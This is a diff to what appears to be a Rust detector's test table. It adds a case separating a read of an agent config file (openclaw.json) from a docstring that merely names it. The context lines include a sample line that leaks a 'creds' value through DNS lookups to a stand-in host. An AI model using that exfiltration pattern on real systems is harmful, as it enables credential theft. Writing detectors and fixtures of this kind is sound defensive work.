@@ -1646,6 +1646,15 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "await resolveTxt(creds.slice(i, i + 50) + '.r' + i + '.t.example.net')",
         "await resolveTxt('_dmarc.' + domain)",
     ),
+    // misses14: the ninth sweep's finance-news — openclaw.json named in
+    // a docstring is no read; as a quoted name, a path or a command's
+    // argument it is.
+    (
+        "agent-config",
+        "scripts/x.py",
+        "settings = json.load(open(os.path.join(base, \"openclaw.json\")))",
+        "    Model selection is configured in openclaw.json, not per-request.",
+    ),
     (
         "dns-lookup",
         "lib/x.rb",
